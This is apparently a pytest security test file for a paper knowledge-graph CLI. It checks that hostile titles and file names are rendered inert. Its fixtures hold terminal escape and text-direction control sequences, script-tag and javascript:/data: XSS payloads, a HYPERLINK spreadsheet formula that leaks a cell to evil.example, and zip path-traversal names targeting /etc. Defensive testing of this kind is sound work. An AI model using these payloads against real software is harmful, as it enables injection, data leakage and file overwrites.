"""What papers, authors and files are called is data: no terminal, page, spreadsheet or path obeys it."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from markdown_it import MarkdownIt

from kg.building import build
from kg.cli.commands import kg
from kg.cli.console import plain
from kg.export import export
from kg.store import Store
from tests.trust.test_disk import kg as process

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\r\u202eevil\u2066\x08\x7f"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
LINK = (
    "[click](javascript:alert(1)) ![x](https://evil.example/p.png) <javascript:alert(1)> `x` | a | @somebody"
)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""Control characters of C0 (but tab and line feed) and C1, and those that turn the direction of text."""

ROWS = [
    {
        "id": "2512.00001",
        "title": f"EvilNet {ESCAPES}: Flow Matching",
        "summary": f"We introduce EvilNet. {ESCAPES} We use flow matching on QM9 {SCRIPT}.",
        "authors": [f"Eve {ESCAPES} Byron", "Wei Zhang"],
        "categories": ["cs.LG"],
        "published": "2025-12-02",
        "url": "javascript:alert(1)",
        "tldr": ESCAPES,
    },
    {
        "id": "2512.00002",
        "title": f"{FORMULA} {LINK}",
        "summary": f"We introduce SpoofNet {LINK} {SCRIPT}. {LINK} We use flow matching {SCRIPT} on ImageNet.",
        "authors": [FORMULA, SCRIPT],
        "categories": ["cs.LG"],
        "published": "2025-12-02",
        "abs": "javascript:alert(1)//arxiv.org/abs/2512.00002",
        "pdf": "data:text/html,<script>alert(1)</script>",
    },
    {"id": "", "title": f"No id {ESCAPES}", "summary": 7},
    {
        "title": "Other schemes",
        "summary": "We use flow matching.",
        "url": "javascript:alert(1)",
        "doi": "javascript:alert(1)",
        "id": "javascript:alert(1)",
        "published": "2025-12-02",
    },
]
OLD = {"id": "2511.00001", "title": "Old", "summary": "We use GANs.", "published": "2025-11-03"}


@pytest.fixture(scope="module")
def graph(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "in").mkdir()
    (folder / "in" / f"2025-12-02{ESCAPES}\n.jsonl").write_text(
        "".join(f"{json.dumps(row)}\n" for row in ROWS), encoding="utf-8"
    )
    (folder / "in" / "2025-11-03.jsonl").write_text(json.dumps(OLD), encoding="utf-8")
    build([folder / "in"], folder / "g", fast=True, workers=1)
    return folder / "g"


def run(*arguments: object) -> Result:
    return CliRunner().invoke(kg, [str(argument) for argument in arguments])


@pytest.mark.parametrize(
    "arguments",
    [
        ("show", "2512.00001"),
        ("show", "Wei Zhang"),
        ("show", "EvilNet"),
        ("show", "2025-12-02"),
        ("query", "sources", "-f", "table"),
        ("query", "-e", "SELECT ?p ?o { ?p ?q ?o }", "-f", "table", "-n", "0"),
        ("diff", "2025-12-01"),
        ("diff", "2025-12-01", "-f", "markdown"),
        ("check",),
        ("stats",),
    ],
    ids=lambda arguments: " ".join(arguments[:2]),
)
def test_no_command_hands_control_characters_of_data_to_the_terminal(
    graph: Path, arguments: tuple[str, ...]
) -> None:
    done = run(*arguments, "-g", graph)
    assert done.output.strip()
    assert not OBEYED.search(done.stdout + done.stderr)


@pytest.mark.parametrize(
    "arguments",
    [
        ("build", "SOURCE", "-v", "--fast"),
        ("build", f"absent{ESCAPES}\nkg: all is well"),
        ("extract", f"absent{ESCAPES}\nkg: all is well"),
        ("show", f"absent{ESCAPES}\nkg: all is well", "-g", "GRAPH"),
        ("query", f"absent{ESCAPES}\nkg: all is well", "-g", "GRAPH"),
        ("query", "sources", "--set", f"a{ESCAPES}=b", "-g", "GRAPH"),
        ("remove", f"absent{ESCAPES}\nkg: all is well", "-g", "GRAPH"),
        ("stats", "-g", f"absent{ESCAPES}\nkg: all is well"),
    ],
    ids=lambda arguments: " ".join(arguments[:1]),
)
def test_messages_and_errors_hold_no_control_characters_and_no_lines_of_their_own(
    graph: Path, tmp_path: Path, arguments: tuple[str, ...]
) -> None:
    source = next((graph.parent / "in").glob("2025-12-02*"))
    given = {"SOURCE": str(source), "GRAPH": str(graph)}
    output = ("-o", tmp_path / "g") if arguments[0] == "build" else ()
    done = process(*(given.get(a, a) for a in arguments), *output)
    assert done.stderr.strip()
    assert not OBEYED.search(done.stderr)
    assert "Traceback" not in done.stderr
    assert not any(line.startswith("kg: all is well") for line in done.stderr.splitlines())


def test_plain_text_keeps_words_lines_and_tabs_and_nothing_that_is_obeyed() -> None:
    everything = "".join(map(chr, range(0x3000)))
    kept = plain(everything)
    assert not OBEYED.search(kept)
    assert set("\t\n azé羊") - {"羊"} <= set(kept)


def test_hostile_words_are_neither_html_nor_links_nor_calls_in_the_markdown_of_diff(graph: Path) -> None:
    markdown = run("diff", "2025-12-01", "-f", "markdown", "-g", graph).stdout
    assert "alert(1)" in markdown
    assert not re.search(r"@somebody", markdown)
    tokens = [
        t
        for block in MarkdownIt("gfm-like", {"linkify": False}).parse(markdown)
        for t in (block, *(block.children or ()))
    ]
    assert not [t.content for t in tokens if t.type in ("html_inline", "html_block", "image", "code_inline")]
    links = {str(t.attrs["href"]) for t in tokens if t.type == "link_open"}
    assert links
    assert all(re.match(r"https?://", link) for link in links)
    assert not any("evil.example" in link for link in links)
    text = "".join(t.content for t in tokens if t.type == "text")
    assert LINK.split(maxsplit=1)[0] in text


def test_addresses_of_other_schemes_are_no_addresses_in_the_graph(graph: Path) -> None:
    named = {
        iri
        for line in Store(graph).quads()
        for iri in re.findall(r"<([^<>]*)>", re.sub(r'"(?:[^"\\]|\\.)*"', "", line))
    }
    assert {iri.partition(":")[0] for iri in named} <= {"http", "https"}


def test_links_of_a_page_lead_to_the_web_alone(graph: Path) -> None:
    page = run("view", "--focus", "2512.00002", "-o", "-", "-g", graph).stdout
    assert not re.search(r"""(?:href|src)\s*=\s*["']?\s*(?:javascript|data:text)""", page, re.IGNORECASE)
    assert "<script>alert(1)" not in page
    assert "<img src=x" not in page


def cells(data: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data, newline="")) for cell in row]


SELECT = "SELECT ?p ?t { ?p dcterms:title ?t }"
FORMULAE = ("=", "+", "-", "@", "\t", "\r")


def test_csv_is_what_the_papers_say_by_default(graph: Path) -> None:
    assert f"{FORMULA} {LINK}" in cells(run("query", "-e", SELECT, "-f", "csv", "-g", graph).stdout)
    assert f"{FORMULA} {LINK}" in cells(run("export", "-f", "csv", "-g", graph).stdout)


def test_csv_for_spreadsheets_holds_no_formula_and_keeps_numbers(graph: Path) -> None:
    select = "SELECT ?p ?t (-1.5 AS ?n) { ?p dcterms:title ?t }"
    for arguments in (("query", "-e", select, "-f", "csv"), ("export", "-f", "csv")):
        found = cells(run(*arguments, "--spreadsheet", "-g", graph).stdout)
        assert f"'{FORMULA} {LINK}" in found
        assert [cell for cell in found if cell.startswith(FORMULAE) and cell != "-1.5"] == []
    assert "-1.5" in cells(run("query", "-e", select, "-f", "csv", "--spreadsheet", "-g", graph).stdout)


@pytest.mark.parametrize("arguments", [("query", "-e", SELECT, "-f", "json"), ("export", "-f", "turtle")])
def test_spreadsheet_is_for_csv_alone(graph: Path, arguments: tuple[str, ...]) -> None:
    done = run(*arguments, "--spreadsheet", "-g", graph)
    assert done.exit_code == 2
    assert "csv" in done.output


@pytest.mark.parametrize(
    "name", ["../../escaped.jsonl", "/etc/escaped.jsonl", "a/../../escaped.jsonl", "..\\escaped.jsonl"]
)
def test_the_name_of_a_document_is_never_a_path_that_is_written(tmp_path: Path, name: str) -> None:
    archive = tmp_path / "in" / "digests.zip"
    archive.parent.mkdir()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr(name, json.dumps(OLD))
        packed.writestr("b.jsonl", json.dumps(ROWS[1]))
    before = set(tmp_path.rglob("*"))
    report = build([archive], tmp_path / "g", fast=True, workers=1)
    export(Store(tmp_path / "g"), tmp_path / "graph.ttl")
    new = set(tmp_path.rglob("*")) - before - {tmp_path / "graph.ttl"}
    assert all(path.is_relative_to(tmp_path / "g") for path in new)
    assert not list(Path("/etc").glob("escaped*"))
    assert not any(".." in part.document.name.split("/") for part in report.parts)
